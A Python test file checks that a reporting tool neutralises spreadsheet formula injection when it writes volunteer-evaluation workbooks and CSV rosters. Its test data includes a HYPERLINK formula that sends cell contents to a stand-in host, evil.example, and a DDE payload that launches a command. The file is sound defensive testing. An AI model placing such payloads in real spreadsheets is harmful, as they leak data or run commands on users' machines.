"""Spreadsheet formula injection: every cell written from user data is stored as text.

The workbook is written by the real writer and opened again with openpyxl: a hostile name must
come back as a plain string starting with an apostrophe, never as a formula.
"""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports.cells import cell_value
from reports.evaluation_workbooks import (
    AREA_COLUMNS,
    COMMUNITY_COLUMNS,
    MEMBER_COLUMNS,
    UNIT_COLUMNS,
    UNIT_FEEDBACK_COLUMNS,
    Column,
    write_workbook,
)

REPO = Path(__file__).parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_cell_value_neutralises_formula_starts(text: str) -> None:
    assert cell_value(text) == "'" + text


def test_cell_value_leaves_plain_values_alone() -> None:
    assert cell_value("张三") == "张三"
    assert cell_value("a=b") == "a=b"
    assert cell_value(-3) == -3 and cell_value(1.5) == 1.5 and cell_value(None) is None
    assert cell_value("名\x00字\x07") == "名字"     # characters an .xlsx cannot hold are dropped


def _row(text: str) -> dict[str, object]:
    """A result row whose every text column is `text` (numbers stay numbers)."""
    return {
        "name": text, "phone": "13800138000", "registration_status": "none", "services": 1,
        "hours": Decimal("1.5"), "evaluation_points": Decimal("2"), "avg_rating": None, "quota_met": True,
        "grade": text, "member_id": 1, "unit_id": 2, "community_id": 3, "score": Decimal("0.5"),
        "rank": 1, "members": 3, "registered": 2, "registration_rate": Decimal("0.5"), "completion_rate": None,
        "services_per_member": Decimal("1"), "eligible": True, "stars": 3, "needs": 1, "response_rate": None,
        "resolution_rate": None, "satisfaction_rate": None, "avg_hours_to_respond": None, "grids": 1,
        "branch_coverage": None, "member_coverage": None, "communities": 1,
    }


@pytest.mark.parametrize("columns", [UNIT_FEEDBACK_COLUMNS, MEMBER_COLUMNS, UNIT_COLUMNS, COMMUNITY_COLUMNS,
                                     AREA_COLUMNS])
def test_workbooks_store_hostile_names_as_text(columns: list[Column]) -> None:
    out = io.BytesIO()
    write_workbook(out, title="=evil", caption="=caption", columns=columns, rows=[_row(t) for t in HOSTILE])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    found = 0
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            # (XML reads a stored carriage return back as a newline)
            if isinstance(cell.value, str) and cell.value[1:].replace("\n", "\r") in HOSTILE:
                assert cell.data_type == "s" and cell.value.startswith("'")
                found += 1
    assert found >= len(HOSTILE)      # the names (and grades) are there, as text


def test_demo_roster_csv_neutralises_cells(tmp_path: Path) -> None:
    from demo.seed import _write_csv

    path = tmp_path / "roster.csv"
    _write_csv(path, ["姓名"], [[text] for text in HOSTILE])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE]


def test_every_spreadsheet_writer_uses_the_cell_rule() -> None:
    """A product module that writes .xlsx (openpyxl) or .csv (csv.writer) imports reports.cells:
    a writer added later without it fails here."""
    offenders = []
    for path in REPO.rglob("*.py"):
        relative = path.relative_to(REPO)
        if relative.parts[0] in {".venv", "tests", "bench"} or relative == Path("reports/cells.py"):
            continue
        tree = ast.parse(path.read_text("utf-8"))
        writes = uses_rule = False
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl":
                writes |= any(alias.name == "Workbook" for alias in node.names)
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} and isinstance(
                    node.value, ast.Name) and node.value.id == "csv":
                writes = True
            if isinstance(node, ast.ImportFrom) and node.module == "reports.cells":
                uses_rule = True
        if writes and not uses_rule:
            offenders.append(str(relative))
    assert offenders == []
